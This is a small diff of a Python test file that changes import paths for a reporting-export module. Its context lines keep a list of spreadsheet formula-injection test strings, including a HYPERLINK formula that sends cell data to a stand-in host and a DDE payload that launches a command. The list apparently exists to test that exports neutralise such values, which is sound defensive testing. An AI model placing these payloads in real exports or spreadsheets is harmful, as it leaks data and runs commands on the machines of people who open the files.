@@ -10,10 +10,10 @@ from sqlalchemy import select
 
 from conftest import PLANS, PROJECT_ROOT
 from knowledge import models
-from knowledge import reporting as rp
+import reporting as rp
 from knowledge.db import make_session_factory
 from knowledge.ingest import ingest_paths
-from knowledge.report_exports import FORMULA_STARTS, export_report, neutralise
+from reporting.exports import FORMULA_STARTS, export_report, neutralise
 
 EVIL_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
               "\t=1+1", "\r=1+1"]
